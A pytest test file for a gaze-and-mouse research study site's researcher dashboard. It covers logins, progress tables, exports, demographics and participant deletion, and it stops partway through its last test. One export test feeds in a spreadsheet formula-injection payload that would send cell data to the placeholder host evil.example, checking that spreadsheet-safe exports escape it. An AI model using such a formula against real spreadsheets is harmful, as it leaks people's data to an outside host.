"""Researcher dashboard: accounts from the CLI, login, progress, quality, export, deletion."""
import io
import json
import re
import zipfile
from contextlib import contextmanager

import pandas as pd
import pytest
from sqlalchemy import delete, select

from gazepref import store
from gazepref.cli import main as cli

from browsertest import stop_the_clock, wait_for_function
from gazetest import browser_page
from sitetest import Walker, csrf_of, first_sentence


@pytest.fixture
def researcher(app, monkeypatch, capsys):
    monkeypatch.setattr("sys.stdin", io.StringIO("correct horse battery\n"))
    assert cli(["user", "add", "ada", "--all-studies", "--password-stdin", "--instance", app.instance_path]) == 0
    assert "created user ada (studies: all studies)" in capsys.readouterr().out
    return "ada", "correct horse battery"


def login(client, user, password):
    page = client.get("/admin/login")
    return client.post("/admin/login", data={"csrf_token": csrf_of(page.text), "username": user,
                                             "password": password})


#: dashboard.js polls progress.json this often (the live tests move the page's clock on by it)
POLL_MS = 5000


@contextmanager
def researcher_page(app, researcher):
    """A Chromium page (gazetest.browser_page, no camera) logged in as ``researcher``."""
    with browser_page(app, None) as page:
        page.goto("/admin/login")
        page.fill("[name='username']", researcher[0])
        page.fill("[name='password']", researcher[1])
        page.click("button[type='submit']")
        yield page


def test_user_add_hashes_password(app, researcher, dbs):
    user = dbs.scalars(select(store.User)).one()
    assert user.username == "ada" and researcher[1] not in user.password_hash
    assert user.password_hash.startswith(("scrypt:", "pbkdf2:"))


def test_user_add_rejects_short_password(app, monkeypatch, capsys):
    monkeypatch.setattr("sys.stdin", io.StringIO("short\n"))
    assert cli(["user", "add", "bob", "--all-studies", "--password-stdin", "--instance", app.instance_path]) == 2
    assert "at least 8 characters" in capsys.readouterr().err


def test_pages_need_login(client):
    for url in ("/admin/", "/admin/studies/test-study", "/admin/studies/test-study/export"):
        r = client.get(url)
        assert r.status_code == 302 and "/admin/login" in r.location
    assert client.post("/admin/participants/1/delete").status_code == 400  # no CSRF token either


def test_a_stale_login_form_comes_back_to_the_login_page_keeping_where_to_go(client, researcher):
    """A login page left open while the browser's session got a newer token (a participant's
    arrival in another tab): its form comes back to the login page, which says nothing was sent
    and keeps the page to go to; nobody is logged in by the stale form."""
    page = client.get("/admin/login?next=/admin/studies/test-study").text
    with client.session_transaction() as sess:
        sess["csrf"] = "a-newer-token"
    r = client.post("/admin/login?next=/admin/studies/test-study", headers={
        "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate"},
        data={"csrf_token": csrf_of(page), "username": "ada", "password": "correct horse battery"})
    assert r.status_code == 303 and r.location == "/admin/login?next=%2Fadmin%2Fstudies%2Ftest-study&expired=1"
    assert client.get("/admin/").status_code == 302  # not logged in
    again = client.get(r.location).text
    assert "Nothing was sent" in again
    r = client.post(r.location, data={"csrf_token": csrf_of(again), "username": "ada",
                                      "password": "correct horse battery"})
    assert r.status_code == 302 and r.location.endswith("/admin/studies/test-study")


def test_wrong_password_is_refused(client, researcher):
    r = login(client, "ada", "wrong password")
    assert r.status_code == 401 and "Wrong user name or password" in r.text


def test_progress_quality_export_and_delete(app, client, researcher, dbs):
    w = Walker(app.test_client(), "P-ONE")
    w.arrive()
    w.consent()
    data = w.to_task()
    w.chat_turn(data, 0, "How does sleep help memory?")
    mouse = {"t": [i * 16.7 for i in range(120)], "x": [5.0] * 120, "y": [6.0] * 120}
    for seq, chunk in enumerate((slice(0, 60), slice(60, 120))):
        body = {"task": data["task"], "seq": seq, "origin": 1.7e12,
                "streams": {"mouse": {k: v[chunk] for k, v in mouse.items()}}}
        assert w.client.post("/api/ingest", json=body, headers={"X-Participant-Token": data["token"]}).status_code == 200
    d = Walker(app.test_client(), "P-TWO")
    d.arrive()
    d.consent("decline")

    assert login(client, *researcher).status_code == 302
    assert "Test study" in client.get("/admin/").text
    page = client.get("/admin/studies/test-study")
    assert page.status_code == 200 and "P-ONE" not in page.text
    assert 'data-key="mouse_rate"' in page.text and 'data-key="gaze_rate"' not in page.text  # mouse-only
    if "plots" in app.blueprints:  # the analyst views, linked per consenting participant
        assert page.text.count("/plots\">plots</a>") == 1
    prog = client.get("/admin/studies/test-study/progress.json").json
    assert prog["progress"]["consented"] == 1 and prog["progress"]["declined"] == 1
    assert prog["progress"]["turns"] == 1 and prog["progress"]["samples_per_s"]["mouse"] == 2.0
    [q] = [p for p in prog["participants"] if p["consent"]]
    assert q["mouse_samples"] == 120 and q["step"] == "task:0" and q["gaps"] == 0
    assert q["sample_rate_hz"] == pytest.approx(120 / 1.9873, rel=0.01)

    r = client.get("/admin/studies/test-study/export?format=parquet")
    assert r.status_code == 200 and r.mimetype == "application/zip"
    zf = zipfile.ZipFile(io.BytesIO(r.data))
    names = set(zf.namelist())
    assert {"test-study/turns.parquet", "test-study/streams/mouse.parquet"} <= names
    turns = pd.read_parquet(io.BytesIO(zf.read("test-study/turns.parquet")))
    assert turns["prompt"].tolist() == ["How does sleep help memory?"]
    blob = b"".join(zf.read(n) for n in names)
    assert b"P-ONE" not in blob
    r = client.get("/admin/studies/test-study/export?format=ifllm")
    assert r.status_code == 200
    zf = zipfile.ZipFile(io.BytesIO(r.data))
    assert "test-study/query_logs_table.csv" in zf.namelist()
    assert b"How does sleep help memory?" in zf.read("test-study/query_logs_table.csv")

    pid = dbs.scalars(select(store.Participant).where(store.Participant.consent.is_(True))).one().id
    page = client.get("/admin/studies/test-study")
    r = client.post(f"/admin/participants/{pid}/delete", data={"csrf_token": csrf_of(page.text)})
    assert r.status_code == 302
    dbs.expire_all()
    marker = dbs.get(store.Participant, pid)  # the marker that the data was deleted (purge.deletion_of)
    assert marker.consent is False and set(marker.state) == {"deleted"} and marker.completion_code is None
    for table in (store.Task, store.Turn, store.Response, store.StreamChunk, store.Demographics):
        assert dbs.scalars(select(table)).all() == []
    assert len(dbs.scalars(select(store.Participant)).all()) == 2  # the decline stays


def _study(dbs):
    return dbs.scalars(select(store.Study).where(store.Study.slug == "test-study")).one()


def test_status_reason_and_live_table(app, client, researcher, dbs):
    """Each participant's status and, for those who stopped, why; samples, start and duration; the
    page's table is drawn from the same rows progress.json sends every 5 s."""
    import datetime as dt

    from gazepref.capture_site.quality import participant_quality

    Walker(app.test_client(), "P-DECLINE").arrive()
    Walker(app.test_client(), "P-DECLINE").consent("decline")
    w = Walker(app.test_client(), "P-TASK")
    w.arrive()
    w.consent()
    data = w.to_task()
    w.chat_turn(data, 0, "How does sleep help memory?")
    body = {"task": data["task"], "seq": 0, "origin": 1.7e12,
            "streams": {"mouse": {"t": [0.0, 20.0, 40.0], "x": [1.0, 2.0, 3.0], "y": [1.0, 2.0, 3.0]}}}
    assert w.client.post("/api/ingest", json=body, headers={"X-Participant-Token": data["token"]}).status_code == 200
    f = Walker(app.test_client(), "P-DONE")
    f.arrive()
    f.consent()
    post = {"summary": "s", "understand_after": "4", "copy_sentence": "c", "attention": "3"}
    for _ in range(2):  # both tasks, two rated turns each, then done
        d = f.to_task()
        for i in range(2):
            turn = f.chat_turn(d, i, f"question {i}")
        f.answer()
        f.answer({**post, "copy_sentence": first_sentence(turn)})
    f.step()  # the done page marks the participant finished

    rows = {r["pseudonym"]: r for r in participant_quality(dbs, _study(dbs))}
    assert len(rows) == 3
    by_status = {r["status"]: r for r in rows.values()}
    assert set(by_status) == {"declined", "in progress", "finished"}  # everyone active a moment ago
    task_row = by_status["in progress"]
    assert task_row["samples"] == {"mouse": 3} and task_row["turns"] == 1
    assert task_row["started_at"] and task_row["duration_s"] >= 0 and task_row["face_found_rate"] is None
    later = store.utcnow() + dt.timedelta(hours=1)  # an hour later, the one in the task has stopped
    rows = {r["status"]: r for r in participant_quality(dbs, _study(dbs), now=later)}
    assert rows["stopped"]["reason"] == "in task 1 of 2 (1 turns)"
    assert rows["declined"]["reason"] == "declined consent" and rows["finished"]["reason"] == ""

    assert login(client, *researcher).status_code == 302
    page = client.get("/admin/studies/test-study").text
    assert "in progress" in page and "mouse 3" in page and "declined consent" in page
    prog = client.get("/admin/studies/test-study/progress.json").json
    assert sorted(p["status"] for p in prog["participants"]) == ["declined", "finished", "in progress"]
    assert 'id="participants"' in page and "data-csrf=" in page  # the script redraws this table


def test_dashboard_export_with_demographics_on_request(app, client, researcher):
    w = Walker(app.test_client(), "P-DEMO")
    w.arrive()
    w.consent()
    w.answer({"age": "41"})  # the demographics step
    assert login(client, *researcher).status_code == 302
    page = client.get("/admin/studies/test-study").text
    assert 'name="demographics"' in page and "may identify people" in page
    plain = zipfile.ZipFile(io.BytesIO(client.get("/admin/studies/test-study/export?format=ifllm").data))
    assert not any("demographics" in n.lower() for n in plain.namelist())
    # no table carries the answer (a bare b"41" search would also hit timestamps and hashes)
    for name in (n for n in plain.namelist() if n.endswith(".csv")):
        table = pd.read_csv(io.BytesIO(plain.read(name)), dtype=str)
        assert "age" not in table.columns, name
    r = client.get("/admin/studies/test-study/export?format=parquet&demographics=1")
    assert r.status_code == 200 and "with-demographics" in r.headers["Content-Disposition"]
    zf = zipfile.ZipFile(io.BytesIO(r.data))
    demo = pd.read_csv(io.BytesIO(zf.read("test-study/demographics.csv")))
    assert demo["age"].tolist() == [41]
    assert "may identify people" in zf.read("test-study/DEMOGRAPHICS_README.txt").decode()
    assert b"P-DEMO" not in b"".join(zf.read(n) for n in zf.namelist())
    # a format there is none of (a script's typo): a 400 that names the formats, not the study page
    bad = client.get("/admin/studies/test-study/export?format=csv")
    assert bad.status_code == 400 and "parquet, ifllm" in bad.text


def test_dashboard_export_keeps_text_exact_and_escapes_formulas_only_for_spreadsheets(app, client, researcher):
    """A participant's text that a spreadsheet would run as a formula is exported exactly (the
    research data); "safe to open in a spreadsheet" gives such cells a leading ' and says so."""
    w = Walker(app.test_client(), "P-SHEET")
    w.arrive()
    w.consent()
    data = w.to_task()
    prompt = '=HYPERLINK("https://evil.example/?d="&A2,"click")'
    w.chat_turn(data, 0, prompt, feedback="@everyone +1")
    assert login(client, *researcher).status_code == 302
    assert 'name="spreadsheet"' in client.get("/admin/studies/test-study").text
    for spreadsheet, quote in (("0", ""), ("1", "'")):
        r = client.get(f"/admin/studies/test-study/export?format=ifllm&spreadsheet={spreadsheet}")
        assert r.status_code == 200 and ("for-spreadsheets" in r.headers["Content-Disposition"]) == bool(quote)
        zf = zipfile.ZipFile(io.BytesIO(r.data))
        queries = pd.read_csv(io.BytesIO(zf.read("test-study/query_logs_table.csv")))
        assert queries[["user_query", "comment"]].values.tolist() == [[quote + prompt, quote + "@everyone +1"]]
        assert ("test-study/SPREADSHEET_SAFE.txt" in zf.namelist()) == bool(quote)


def test_dashboard_export_with_demographics_nobody_answered_says_so(app, client, researcher):
    """Ticking "include the demographics answers" where nobody answered: the zip says why it has
    no demographics.csv, as the command line does."""
    w = Walker(app.test_client(), "P-NODEMO")
    w.arrive()
    w.consent()  # consented, never answered the demographics questions
    assert login(client, *researcher).status_code == 302
    r = client.get("/admin/studies/test-study/export?format=ifllm&demographics=1")
    assert r.status_code == 200 and "with-demographics" in r.headers["Content-Disposition"]
    zf = zipfile.ZipFile(io.BytesIO(r.data))
    assert "test-study/demographics.csv" not in zf.namelist()
    note = zf.read("test-study/DEMOGRAPHICS_README.txt").decode()
    assert "nobody answered" in note.lower() and "demographics.csv" in note


def test_why_webcam_participants_stopped(make_app, tmp_path, researcher):
    """Set-up frames (no face, too far, ...) and a camera that could not be opened are recorded, and
    the dashboard says so for a participant who stopped at the camera set-up."""
    import datetime as dt

    import numpy as np

    pytest.importorskip("cv2")
    pytest.importorskip("mediapipe")
    from gazetest import post_frames, to_calibration, webcam_toml

    from gazepref.capture_site.quality import participant_quality
    from gazepref.signals.synthetic_face import jpeg

    app = make_app(STUDY_CONFIG=str(webcam_toml(tmp_path / "webcam.toml")))
    black = app.test_client()
    token = to_calibration(black, "CAM-BLACK")["token"]
    dark = jpeg(np.zeros((240, 320, 3), np.uint8))
    r = post_frames(black, token, {"phase": "setup", "t": [0.0, 100.0, 200.0]}, [dark] * 3)
    assert r.status_code == 200
    denied = app.test_client()
    gaze = to_calibration(denied, "CAM-DENIED")
    assert gaze["urls"]["camera_error"]
    r = denied.post(gaze["urls"]["camera_error"], json={"reason": "denied"},
                    headers={"X-Participant-Token": gaze["token"]})
    assert r.status_code == 200
    assert denied.post(gaze["urls"]["camera_error"], json={"reason": 3},
                       headers={"X-Participant-Token": gaze["token"]}).status_code == 400
    with app.extensions["gazepref"].sessions() as s:
        study = s.scalars(select(store.Study)).one()
        later = store.utcnow() + dt.timedelta(hours=1)
        rows = sorted(participant_quality(s, study, now=later), key=lambda r: r["id"])
    assert [r["status"] for r in rows] == ["stopped", "stopped"]
    assert rows[0]["reason"].startswith("at the camera set-up: no face in the camera picture")
    assert "3 set-up frames, face found in 0%" in rows[0]["reason"] and rows[0]["face_found_rate"] == 0.0
    assert rows[1]["reason"] == "at the camera set-up: camera access denied"



def test_a_screened_out_participant_is_shown_so_at_once(make_app, tmp_path, researcher):
    """A webcam-only study's participant whose camera was denied leaves by "Leave the study" (the
    platform's screen-out hand-off): the dashboard says "screened out" and why at once, not "in
    progress" with no reason for the next 10 minutes (they are already back on the platform)."""
    from gazetest import answer_step, to_calibration, webcam_toml

    from gazepref.capture_site.quality import participant_quality

    toml = webcam_toml(tmp_path / "required.toml")
    toml.write_text(toml.read_text().replace('webcam = "optional"', 'webcam = "required"'))
    app = make_app(STUDY_CONFIG=str(toml))
    denied = app.test_client()
    gaze = to_calibration(denied, "CAM-DENIED-LEFT")
    assert denied.post(gaze["urls"]["camera_error"], json={"reason": "denied"},
                       headers={"X-Participant-Token": gaze["token"]}).status_code == 200
    assert answer_step(denied, {"outcome": "no-camera"}).status_code == 302
    assert "needs a working webcam" in denied.get("/step").text
    with app.extensions["gazepref"].sessions() as s:
        [row] = participant_quality(s, s.scalars(select(store.Study)).one())
    assert (row["status"], row["reason"]) == ("screened out", "at the camera set-up: camera access denied")
    from gazepref.datasets.store_recording import StoreRecording

    with app.extensions["gazepref"].sessions() as s:  # the exports say so too (participants.parquet)
        [part] = StoreRecording(s, s.scalars(select(store.Study)).one()).participants()
    assert (part.webcam, part.camera_error, part.screened_out) == ("no-camera", "denied", "no-camera")
    researcher_client = app.test_client()
    assert login(researcher_client, *researcher).status_code == 302
    page = researcher_client.get("/admin/studies/test-study").text
    assert 'class="status-screened-out">screened out</td><td>at the camera set-up: camera access denied' in page
    # counted apart (a platform pays them otherwise), on the study page and in the study list
    assert '<dt>Screened out</dt><dd data-key="screened_out">1</dd>' in page
    # a webcam study's page says whether gaze arrives (a mouse-only one: test_progress_quality_export_and_delete)
    assert '<dt>Gaze samples/s (last minute)</dt><dd data-key="gaze_rate">0</dd>' in page
    assert researcher_client.get("/admin/studies/test-study/progress.json").json["progress"]["screened_out"] == 1
    listing = researcher_client.get("/admin/").text
    cells = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td>(.*?)</td>", listing, re.S)]
    by = dict(zip(re.findall(r"<th>(.*?)</th>", listing), cells))
    assert (by["Consented"], by["Screened out"], by["Finished"]) == ("1", "1", "0")

def test_empty_study_table_says_no_participants_yet(app, client, researcher):
    """Before anyone arrives the table is not just headers: one row spanning it says so; the first
    participant replaces it."""
    assert login(client, *researcher).status_code == 302
    page = client.get("/admin/studies/test-study").text
    body = page.split('id="participants"', 1)[1].split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    assert body.count("<tr") == 1 and 'class="empty"' in body and "No participants yet" in body
    heads = len(re.findall(r"<th[ >]", page.split('id="participants"', 1)[1].split("</thead>", 1)[0]))
    assert f'colspan="{heads}"' in body
    w = Walker(app.test_client(), "P-FIRST")
    w.arrive()
    w.consent()
    body = client.get("/admin/studies/test-study").text.split('id="participants"', 1)[1].split("</tbody>", 1)[0]
    assert "No participants yet" not in body and body.count("<tr data-id=") == 1


@pytest.mark.browser
def test_participant_table_refreshes_live(app, researcher):
    """The study page redraws its participants table from progress.json: a participant who
    arrives after the page was opened shows up, with status, without a reload, in place of the
    empty study's "No participants yet" row."""
    with researcher_page(app, researcher) as page:
        stop_the_clock(page)  # the polls (every 5 s) come when the test moves the page's clock on
        page.goto("/admin/studies/test-study")
        # an empty study says so in the table, and a poll keeps saying it
        rows = page.locator("#participants tbody tr")
        assert rows.count() == 1 and "No participants yet" in rows.first.inner_text()
        with page.expect_response(lambda r: "progress.json" in r.url):
            page.clock.run_for(POLL_MS)  # the next poll ...
        page.wait_for_timeout(300)  # ... and its redraw
        assert rows.count() == 1 and "No participants yet" in rows.first.inner_text()
        w = Walker(app.test_client(), "P-LIVE")
        w.arrive()
        w.consent()
        page.clock.run_for(POLL_MS)
        wait_for_function(page, "document.querySelectorAll('#participants tbody tr[data-id]').length === 1")
        assert rows.count() == 1  # the notice went when the first participant came
        row = rows.first.inner_text()
        assert "in progress" in row and "Delete data" in row and "No participants yet" not in row


@pytest.mark.browser
def test_the_study_page_says_when_the_login_ended(app, researcher):
    """The login ends while the study page is open (12 h, a logout elsewhere): its polls are
    answered by the login page; the page says so once and stops polling (it kept showing the
    last figures as current)."""
    with researcher_page(app, researcher) as page:
        stop_the_clock(page)
        page.goto("/admin/studies/test-study")
        with page.expect_response(lambda r: "progress.json" in r.url):
            page.clock.run_for(POLL_MS)
        assert page.locator("#logged-out").count() == 0
        with app.extensions["gazepref"].sessions() as s, s.begin():
            s.execute(delete(store.ResearcherSession))
        with page.expect_response(lambda r: "progress.json" in r.url):
            page.clock.run_for(POLL_MS)
        page.wait_for_selector("#logged-out")
        assert "Your login has ended" in page.text_content("#logged-out")
        polls = []
        page.on("request", lambda r: polls.append(r.url) if "progress.json" in r.url else None)
        page.clock.run_for(3 * POLL_MS)
        page.wait_for_timeout(300)
        assert polls == [] and page.locator("#logged-out").count() == 1


@pytest.mark.browser
def test_the_study_page_says_when_its_figures_are_not_updated(app, researcher):
    """The database away (progress.json answered 503, as in an outage), then the network: the
    page said nothing and kept showing the last figures as current. It says since when they have
    not been updated, and the note goes once a poll gets figures again."""
    with researcher_page(app, researcher) as page:
        stop_the_clock(page)
        page.goto("/admin/studies/test-study")
        page.route("**/progress.json", lambda route: route.fulfill(
            status=503, headers={"Retry-After": "1"}, content_type="text/html", body="<p>The study's database ...</p>"))
        with page.expect_response(lambda r: "progress.json" in r.url):
            page.clock.run_for(POLL_MS)
        page.wait_for_selector("#not-updated")
        assert "database cannot be reached" in page.text_content("#not-updated")
        assert "the figures below are as of" in page.text_content("#not-updated")
        page.unroute("**/progress.json")
        page.route("**/progress.json", lambda route: route.abort("internetdisconnected"))
        page.clock.run_for(POLL_MS)
        wait_for_function(page, "document.querySelector('#not-updated').textContent.includes('cannot be reached:')")
        assert "The site cannot be reached" in page.text_content("#not-updated")
        page.unroute("**/progress.json")
        with page.expect_response(lambda r: "progress.json" in r.url and r.status == 200):
            page.clock.run_for(POLL_MS)
        wait_for_function(page, "document.querySelector('#not-updated') === null")
        assert page.locator("#logged-out").count() == 0


@pytest.mark.browser
def test_who_stopped_at_the_larger_window_page(make_app, tmp_path, researcher, monkeypatch):
    """A participant whose window is too small for the study gets the "please use a larger window"
    page; the page reports it once (not on every resize, not again after a reload), and the
    dashboard's progress.json says they stopped there, until they enlarge the window; before
    consent nothing is stored."""
    from gazepref.capture_site import quality
    from sitetest import study_variant

    monkeypatch.setattr(quality, "IDLE_S", 0)  # whoever is not finished has stopped (no waiting 10 min)
    app = make_app(STUDY_CONFIG=str(study_variant(tmp_path / "s.toml", min_viewport="[1024, 600]")))
    dash = app.test_client()
    assert login(dash, *researcher).status_code == 302

    def reason() -> str:
        rows = dash.get("/admin/studies/test-study/progress.json").json["participants"]
        assert len(rows) == 1 and rows[0]["status"] == "stopped", rows
        return rows[0]["reason"]

    def reported(page, width: int, height: int):
        with page.expect_response(lambda r: r.url.endswith("/window") and r.request.method == "POST") as resp:
            page.set_viewport_size({"width": width, "height": height})
        assert resp.value.status == 204

    with browser_page(app, None) as page:
        posts = []
        page.on("request", lambda r: posts.append(r.post_data) if r.url.endswith("/window") else None)
        page.set_viewport_size({"width": 800, "height": 500})
        page.goto("/?PROLIFIC_PID=SMALL-WINDOW")
        page.wait_for_selector("#viewport-gate:not([hidden])")  # at consent: no participant yet
        reported(page, 1280, 800)
        page.click("#agree")
        page.wait_for_selector("#skip")  # the demographics step
        with app.extensions["gazepref"].sessions() as s:
            assert "window" not in s.scalars(select(store.Participant)).one().state
        assert "at the demographics step" in reason()

        n = len(posts)
        reported(page, 800, 500)  # the window shrinks: the larger-window page, reported
        page.wait_for_selector("#viewport-gate:not([hidden])")
        for size in ((700, 480), (900, 550), (640, 400)):  # more resizes, still too small: not reported
            page.set_viewport_size({"width": size[0], "height": size[1]})
        page.reload()  # nor after a reload
        page.wait_for_selector("#viewport-gate:not([hidden])")
        page.wait_for_timeout(500)
        assert len(posts) == n + 1 and 'name="too_small"\r\n\r\n1' in posts[-1]
        assert reason() == ('window too small for the study (800 × 500 px): '
                            'left at the "please use a larger window" page')

        reported(page, 1280, 800)  # enlarged: the study goes on, and no longer stopped for the window
        page.wait_for_selector("#skip")
        assert reason() == "at the demographics step"
        reported(page, 800, 500)
        assert "window too small" in reason()
        reported(page, 1280, 800)
        page.click("#skip")  # and goes on to the next step
        page.wait_for_selector("#continue")
        assert reason() == "at the instructions step"
        assert len(posts) == n + 4


def test_researcher_errors_are_researcher_pages(client, researcher):
    assert login(client, *researcher).status_code == 302
    r = client.get("/admin/studies/no-such-study")
    assert r.status_code == 404 and 'class="admin-nav"' in r.text and "no such study" in r.text
    r = client.post("/admin/participants/999/delete", data={"csrf_token": csrf_of(client.get("/admin/").text)})
    assert r.status_code == 404 and 'class="admin-nav"' in r.text


def test_a_stored_value_out_of_range_and_tex_in_a_prompt_break_no_export_and_no_plot(app, client, researcher, dbs):
    """A chunk stored with origin -1e308 (as servers before the edge validation accepted) is
    skipped and reported by the IFLLM export; a prompt with ``$...$`` draws as text."""
    import re

    import pyarrow as pa

    w = Walker(app.test_client(), "P-TEX")
    w.arrive()
    w.consent()
    data = w.to_task()
    prompt = r"what about $\frac{a}{$ and $x^$"
    w.chat_turn(data, 0, prompt)
    n = 90
    mouse = {"t": [i * 16.7 for i in range(n)], "x": [100.0 + i for i in range(n)], "y": [200.0] * n}
    body = {"task": data["task"], "seq": 0, "origin": 1.7e12, "streams": {"mouse": mouse}}
    assert w.client.post("/api/ingest", json=body, headers={"X-Participant-Token": data["token"]}).status_code == 200
    bad = {k: pa.array(v[:30], pa.float64() if k == "t" else pa.float32()) for k, v in mouse.items()}
    dbs.add(store.make_chunk(data["task"], "mouse", 1, pa.table(bad), clock_origin_epoch_ms=-1e308))
    dbs.commit()

    assert login(client, *researcher).status_code == 302
    if "plots" in app.blueprints:
        page = client.get("/admin/studies/test-study").text
        base = re.search(r'href="([^"]+)/plots"', page).group(1)
        for kind in ("mouse", "timeline"):
            r = client.get(f"{base}/plot/{kind}.png?task={data['task']}&turn=0")
            assert r.status_code == 200 and r.mimetype == "image/png", (kind, r.status_code)

    r = client.get("/admin/studies/test-study/export?format=ifllm")
    assert r.status_code == 200 and r.mimetype == "application/zip"
    zf = zipfile.ZipFile(io.BytesIO(r.data))
    # the 30 mouse rows and the rel_* rows written from them (the word under each sample)
    assert json.loads(zf.read("test-study/skipped.json"))["rows_epoch_out_of_range"] >= 30
    [mouse_csv] = [n_ for n_ in zf.namelist() if n_.endswith("abs_mouse.csv")]
    assert len(zf.read(mouse_csv).decode().splitlines()) == n
    assert client.get("/admin/studies/test-study/export?format=parquet").status_code == 200


@pytest.mark.browser
def test_live_table_keeps_the_keyboard_focus_and_the_delete_confirmation_names_the_participant(app, researcher):
    """A poll that redraws the participants table leaves the focused link focused (a keyboard
    user is not sent back to the top every 5 s), and deleting asks about the participant by name."""
    w = Walker(app.test_client(), "P-FOCUS")
    w.arrive()
    w.consent()
    data = w.to_task()  # 60 mouse samples over 3 s: 20.0 Hz, longest gap 0.0 s (whole numbers as floats)
    body = {"task": data["task"], "seq": 0, "origin": 1.7e12,
            "streams": {"mouse": {"t": [i * 3000 / 59 for i in range(60)], "x": [5.0] * 60, "y": [6.0] * 60}}}
    assert w.client.post("/api/ingest", json=body, headers={"X-Participant-Token": data["token"]}).status_code == 200
    with researcher_page(app, researcher) as page:  # 1280 x 800
        stop_the_clock(page)  # the polls come when the test moves the page's clock on
        page.goto("/admin/studies/test-study")
        # the 16-column table stays inside the page's panel (scrolling in its own box if need be)
        spill = page.evaluate("""() => {
            const t = document.getElementById('participants'), main = t.closest('main');
            const right = main.getBoundingClientRect().right - parseFloat(getComputedStyle(main).paddingRight);
            const box = getComputedStyle(t.parentElement).overflowX === 'auto' ? t.parentElement : t;
            return box.getBoundingClientRect().right - right; }""")
        assert spill <= 0.5
        pseudonym = page.locator("#participants tbody tr code").first.inner_text()
        served = page.locator("#participants tbody tr").first.inner_text()
        assert "20.0" in served
        page.locator("#participants a", has_text="plots").first.focus()
        w2 = Walker(app.test_client(), "P-LATER")  # the next poll has a new row to draw
        w2.arrive()
        w2.consent()
        page.clock.run_for(POLL_MS)
        wait_for_function(page, "document.querySelectorAll('#participants tbody tr').length === 2")
        assert page.evaluate("document.activeElement.textContent") == "plots"
        # the redrawn row reads as the served one did (numbers formatted alike)
        redrawn = page.locator("#participants tbody tr").first.inner_text()
        assert redrawn.split("\t")[:6] + redrawn.split("\t")[7:] == served.split("\t")[:6] + served.split("\t")[7:]
        assert page.evaluate("document.activeElement.closest('tr').querySelector('code').textContent") == pseudonym
        messages = []
        page.once("dialog", lambda d: (messages.append(d.message), d.dismiss()))
        page.keyboard.press("Tab")  # from the focused link to its row's delete button
        page.keyboard.press("Enter")
        page.wait_for_timeout(300)
        assert messages and pseudonym in messages[0]
        assert page.locator("#participants tbody tr").count() == 2  # dismissed: nothing deleted


@pytest.mark.browser
def test_live_table_offers_delete_readmit_or_nothing_by_status(app, client, researcher, dbs):
    """The served table and the one each poll redraws (dashboard.js) give each row its action: a
    withdrawn row none (its marker stays), a deleted row "Allow to start again" (asked as such), any
    other "Delete data"."""
    pids = {}
    for who in ("P-QUITS", "P-GONE", "P-ACTIVE"):
        w = Walker(app.test_client(), who)
        w.arrive()
        w.consent()
        if who == "P-QUITS":
            page = w.client.get("/withdraw")
            assert w.client.post("/withdraw", data={"csrf_token": csrf_of(page.text)}).status_code in (302, 303)
        pids[who] = max(dbs.scalars(select(store.Participant.id)).all())
    assert login(client, *researcher).status_code == 302
    page = client.get("/admin/studies/test-study")
    assert client.post(f"/admin/participants/{pids['P-GONE']}/delete",
                       data={"csrf_token": csrf_of(page.text)}).status_code == 302

    def actions(page):
        return page.evaluate("""() => Object.fromEntries([...document.querySelectorAll('#participants tbody tr')]
            .map(tr => [tr.dataset.id, [...tr.querySelectorAll('button')].map(b => b.textContent).join('|')]))""")

    want = {str(pids["P-QUITS"]): "", str(pids["P-GONE"]): "Allow to start again", str(pids["P-ACTIVE"]): "Delete data"}
    with researcher_page(app, researcher) as page:
        stop_the_clock(page)  # the polls come when the test moves the page's clock on
        page.goto("/admin/studies/test-study")
        assert actions(page) == want  # served
        later = Walker(app.test_client(), "P-LATER")  # the next poll redraws every row
        later.arrive()
        later.consent()
        page.clock.run_for(POLL_MS)
        wait_for_function(page, "document.querySelectorAll('#participants tbody tr').length === 4")
        got = actions(page)
        assert {k: got[k] for k in want} == want  # redrawn by dashboard.js
        messages = []
        page.once("dialog", lambda d: (messages.append(d.message), d.accept()))
        page.locator(f"#participants tr[data-id='{pids['P-GONE']}'] button").click()
        page.wait_for_load_state()
        assert messages and "start the study again" in messages[0]
        wait_for_function(page, f"!document.querySelector(\"#participants tr[data-id='{pids['P-GONE']}']\")")
    dbs.expire_all()
    assert dbs.get(store.Participant, pids["P-GONE"]) is None and dbs.get(store.Participant, pids["P-QUITS"]) is not None


@pytest.mark.parametrize("step, label, phrase", [
    ("task:0", "task 1", "in task 1"), ("pre:1", "before task 2", "before task 2"),
    ("post:0", "after task 1", "after task 1"), ("calibration:2", "calibration before task 3",
                                                 "at the calibration before task 3"),
    ("calibration", "calibration", "at the calibration step"), ("demographics", "demographics", "at the demographics step"),
])
def test_step_labels_count_tasks_from_one(step, label, phrase):
    """The dashboard's step column (``step_label``) and where a withdrawal or deletion happened in
    its reason ("withdrew before task 2", not "withdrew at before task 2": ``step_phrase``)."""
    from gazepref.capture_site.quality import step_label, step_phrase

    assert step_label(step) == label and step_phrase(step) == phrase
    assert step_label("-") == "-"  # (no step reached)


def test_participant_row_counts_tasks_from_one_and_shows_no_gaps_without_mouse_samples(app, client, researcher):
    """The table's step says "task 1" (as the reason and the plots page do, not the flow's
    "task:0"), and a participant without mouse samples gets "–" for the gaps, not a clean 0."""
    import re

    w = Walker(app.test_client(), "P-NOMOUSE")
    w.arrive()
    w.consent()
    w.to_task()
    assert login(client, *researcher).status_code == 302
    html = client.get("/admin/studies/test-study").text
    [row] = re.findall(r"<tr data-id=.*?</tr>", html, re.S)
    cells = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
    header = [re.sub(r"<[^>]+>", "", h) for h in re.findall(r"<th>(.*?)</th>", html)]
    by = dict(zip(header, cells))
    assert by["Step"] == "task 1"
    assert by["Mouse rate (Hz)"] == by["Gaps &gt;2 s"] == by["Longest gap (s)"] == "–"
    [q] = client.get("/admin/studies/test-study/progress.json").json["participants"]
    assert q["step"] == "task:0" and q["step_label"] == "task 1" and q["mouse_samples"] == 0


def test_study_list_counts_read_as_on_the_study_page(client, researcher):
    """The list's first count is the consenting participants (the declines have their own
    column): it is headed "Consented", as on the study page, not "Participants"."""
    import re

    for pid, decision in (("P-YES", "agree"), ("P-NO", "decline")):
        w = Walker(client.application.test_client(), pid)
        w.arrive()
        w.consent(decision)
    assert login(client, *researcher).status_code == 302
    html = client.get("/admin/").text
